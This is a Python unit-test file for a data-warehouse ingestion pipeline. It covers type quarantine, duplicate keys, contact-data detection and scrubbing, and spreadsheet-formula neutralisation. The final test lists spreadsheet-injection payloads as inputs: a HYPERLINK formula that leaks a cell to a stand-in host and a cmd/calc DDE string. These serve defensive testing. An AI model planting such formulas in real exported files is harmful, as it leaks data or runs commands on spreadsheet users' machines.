"""Values that used to load by rounding or a lenient cast, keys that used to differ only
as text, and the detector of contact data inside free text.

Each expected row count and rule is read off the file written in the test.
"""

import json
import os

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from orchestration.lib import contact_data
from orchestration.lib.callbacks import spreadsheet_safe
from orchestration.lib.ingest import ingest_feed
from orchestration.lib.warehouse import connect
from tests.unit.conftest import write

ITEMS = "order_id,line_no,sku,category,quantity,unit_price,unit_cost"


def ingest(settings, con, feed):
    return ingest_feed(con, settings, feed, "r", log=lambda m: None)


def quarantined(con, feed):
    return con.execute(
        "select line, rule, details from meta.quarantine where feed = ? order by line", [feed]
    ).fetchall()


def test_numbers_that_are_not_exactly_their_type_are_quarantined(env):
    settings, con = env
    write(
        settings,
        "order_items/i.csv",
        f"""
        {ITEMS}
        O1,1,A,x,2.5,100,60
        O1,2,A,x,0x10,100,60
        O1,3,A,x,1_000,100,60
        O1,4,A,x,1e3,100,60
        O1,5,A,x,2,1.23456,1
        O1,6,A,x,2,100,60
        O1,7,A,x,3.0,1.50000,0.5
        O1,8,A,x,+4,100.2500,60
        """,
    )
    report = ingest(settings, con, "order_items")
    # lines 2-6 (file lines, header = 1) break wrong_type; 7, 8 and 9 load exactly
    assert report.files[0].rows_loaded == 3
    assert [(line, rule) for line, rule, _ in quarantined(con, "order_items")] == [
        (2, "wrong_type"),
        (3, "wrong_type"),
        (4, "wrong_type"),
        (5, "wrong_type"),
        (6, "wrong_type"),
    ]
    details = [d for _, _, d in quarantined(con, "order_items")]
    assert details[0] == "quantity = 2.5 is not a whole number"
    assert "at most 4 decimal places" in details[4]
    loaded = con.execute(
        "select line_no, quantity, unit_price from raw.order_items order by line_no"
    ).fetchall()
    assert [(n, q, float(p)) for n, q, p in loaded] == [(6, 2, 100.0), (7, 3, 1.5), (8, 4, 100.25)]


def test_scores_and_floats_in_parquet_and_jsonl_are_not_rounded(env):
    settings, con = env
    base = {"answered_at": "2026-04-21T10:00:00", "question": "recommend"}
    settings.landing_dir.joinpath("survey_answers").mkdir(parents=True)
    lines = [
        {"answer_id": "J1", "survey": "nps", "score": 9.7, **base},  # a JSON number
        {"answer_id": "J2", "survey": "nps", "score": "6.5", **base},
        {"answer_id": "J3", "survey": "nps", "score": 9, **base},
        {"answer_id": "J4", "survey": "csi", "score": "2.5", **base, "question": "order"},
    ]
    (settings.landing_dir / "survey_answers" / "a.jsonl").write_text(
        "\n".join(json.dumps(x) for x in lines) + "\n"
    )
    ingest(settings, con, "survey_answers")
    assert [r[:2] for r in quarantined(con, "survey_answers")] == [
        (1, "wrong_type"),
        (2, "wrong_type"),
        (4, "wrong_type"),
    ]
    assert con.execute("select answer_id, score from raw.survey_answers").fetchall() == [("J3", 9)]

    # Parquet: a float column where the contract has an integer
    folder = settings.landing_dir / "order_items"
    folder.mkdir(parents=True)
    table = pa.table(
        {
            "order_id": ["P1", "P1"],
            "line_no": [1, 2],
            "sku": ["A", "A"],
            "quantity": pa.array([2.7, 3.0], type=pa.float64()),
            "unit_price": [10.0, 10.0],
            "unit_cost": [1.0, 1.0],
        }
    )
    pq.write_table(table, folder / "p.parquet")
    ingest(settings, con, "order_items")
    # row 1: 2.7 is not a whole number; row 2: 3.0 is exactly 3
    assert [r[:2] for r in quarantined(con, "order_items")] == [(1, "wrong_type")]
    assert con.execute("select line_no, quantity from raw.order_items").fetchall() == [(2, 3)]


def test_keys_collide_as_typed_values_in_one_file(env):
    settings, con = env
    write(
        settings,
        "order_items/i.csv",
        f"""
        {ITEMS}
        O7,1,A,x,1,10,1
        O7,01,A,x,1,10,1
        O7,1.0,A,x,1,10,1
        O7,2,A,x,1,10,1
        """,
    )
    write(
        settings,
        "marketing_spend/s.csv",
        """
        spend_date,channel,campaign,spend
        2026-12-05,paid_search,c,10
        2026-12-05 00:00:00,paid_search,c,20
        2026-12-05 13:00:00,paid_search,c,30
        """,
    )
    ingest(settings, con, "order_items")
    ingest(settings, con, "marketing_spend")
    # "01" and "1.0" are line 1 again; the first occurrence (file line 2) loads
    assert [r[:2] for r in quarantined(con, "order_items")] == [
        (3, "duplicate_key_in_file"),
        (4, "duplicate_key_in_file"),
    ]
    assert "repeats line 2" in quarantined(con, "order_items")[0][2]
    # a date with midnight is that date (a duplicate); with 13:00 it is not a date
    assert [r[:2] for r in quarantined(con, "marketing_spend")] == [
        (3, "duplicate_key_in_file"),
        (4, "wrong_type"),
    ]
    assert con.execute("select count(*) from raw.order_items").fetchone()[0] == 2


def test_line_amount_beyond_the_money_type_is_out_of_range(env):
    settings, con = env
    # 1,000,000 x 99,999,999 = 9.9999999e13 < 1e14 fits; x 100,000,000 = 1e14 does not
    write(
        settings,
        "order_items/i.csv",
        f"""
        {ITEMS}
        O8,1,A,x,1000000,99999999,1
        O8,2,A,x,1000000,100000000,1
        O8,3,A,x,1000000,1,100000000
        """,
    )
    ingest(settings, con, "order_items")
    rows = quarantined(con, "order_items")
    assert [r[:2] for r in rows] == [(3, "out_of_range"), (4, "out_of_range")]
    assert "quantity x unit_price" in rows[0][2] and "quantity x unit_cost" in rows[1][2]
    # what used to fail every later run: the line amount, computed as the models do
    (amount,) = con.execute("select quantity * unit_price from raw.order_items").fetchone()
    assert float(amount) == 99_999_999_000_000


def test_a_file_without_header_is_rejected_without_echoing_its_first_line(env):
    settings, con = env
    write(
        settings,
        "customers/c.csv",
        """
        C1,2026-01-01T10:00:00,,anna@example.com,+7 912 345-67-89,,North
        C2,2026-01-02T10:00:00,,bob@example.com,,,North
        """,
    )
    report = ingest(settings, con, "customers")
    f = report.files[0]
    assert f.outcome == "rejected"
    assert "does not look like a header row" in f.reason and "7 fields" in f.reason
    row = con.execute("select reason, extra_columns from meta.files").fetchone()
    for text in (f.reason, *row):
        assert text is None or ("anna" not in text and "912" not in text and "C1" not in text)
    assert row[1] is None


def test_jsonl_lines_are_physical_and_bad_lines_keep_their_text(env):
    settings, con = env
    write(
        settings,
        "leads/l.jsonl",
        '{"lead_id": "L1", "created_at": "2026-01-01T10:00:00", "channel": "paid_search"}\n'
        "\n"
        '{"lead_id": "L2", "created_at": "2026-01-01T10:00:00", "channel": "paid_search"}\n'
        '{"lead_id": "L3", broken\n'
        "[1, 2]\n",
    )
    report = ingest(settings, con, "leads")
    assert report.files[0].rows_in == 4 and report.files[0].rows_loaded == 2
    assert con.execute("select lead_id, _line from raw.leads order by 1").fetchall() == [
        ("L1", 1),
        ("L2", 3),
    ]
    rows = con.execute(
        "select line, details, raw_values from meta.quarantine order by line"
    ).fetchall()
    assert [(line, det) for line, det, _ in rows] == [
        (4, "unparseable JSON line"),
        (5, "line is not a JSON object"),
    ]
    assert json.loads(rows[0][2]) == {"_line_text": '{"lead_id": "L3", broken'}
    assert json.loads(rows[1][2]) == {"_line_text": "[1, 2]"}


def test_working_warehouse_is_owner_only(env):
    settings, _ = env
    con = connect(settings)
    con.execute("create table t as select 1 as x")  # writes the WAL too
    assert os.stat(settings.warehouse_path).st_mode & 0o777 == 0o600
    wal = settings.warehouse_path.with_name(settings.warehouse_path.name + ".wal")
    con.close()
    con = connect(settings)
    assert os.stat(settings.warehouse_path).st_mode & 0o777 == 0o600
    if wal.exists():
        assert os.stat(wal).st_mode & 0o777 == 0o600
    con.close()


# --- contact data inside free text ----------------------------------------------------

CONTACT_DATA = [
    "asked not to call again: +7 912 345-67-89",
    "Volga, tel +7 912 345 67 89",
    "call 8 (912) 345 67 89 after six",
    "8-912-345-67-89",
    "(912) 345-6789",
    "+79123456789",
    "mobile 89123456789",
    "+44 20 7946 0958",
    "+1 (212) 555-1234 office",
    "spring sale ivan.petrov+promo@mail.example.ru",
    "paid by card 4111 1111 1111 1111",
]
NOT_CONTACT_DATA = [
    "4607-0017-7001-9",  # an SKU
    "SKU 4607-0017-7001-9 x2",
    "4607001770019",  # an EAN barcode
    "O-2026-000123",  # an order number
    "order 100045",
    "12345678901",
    "2026-05-15 15:00",
    "15.05.2026 15:00",
    "1 234 567 890",
    "192.168.100.200",
    "spring_2026_promo",
    "invalid_share 12.5% of 1,200 leads; threshold 5.0%",
]


@pytest.mark.parametrize("text", CONTACT_DATA)
def test_detector_finds_contact_data_inside_text(text):
    assert contact_data.contains_contact_data(text)
    scrubbed = contact_data.scrub(text)
    assert not contact_data.contains_contact_data(scrubbed)
    assert "redacted]" in scrubbed
    for piece in ("912", "@mail", "4111", "7946", "555-1234"):
        assert piece not in scrubbed


@pytest.mark.parametrize("text", NOT_CONTACT_DATA)
def test_detector_leaves_skus_order_numbers_dates_and_amounts(text):
    assert not contact_data.contains_contact_data(text)
    assert contact_data.scrub(text) == text


def test_detector_in_sql_agrees_with_python():
    con = duckdb.connect()
    texts = CONTACT_DATA + NOT_CONTACT_DATA
    got = [
        con.execute(
            f"select {contact_data.sql_contains('v')} from (select ? as v)", [t]
        ).fetchone()[0]
        for t in texts
    ]
    assert got == [True] * len(CONTACT_DATA) + [False] * len(NOT_CONTACT_DATA)


@pytest.mark.parametrize(
    "value, expected",
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1, "click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1, "click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("the queue was long", "the queue was long"),
        (3, 3),
        (None, None),
    ],
)
def test_spreadsheet_formulas_are_neutralised(value, expected):
    assert spreadsheet_safe(value) == expected
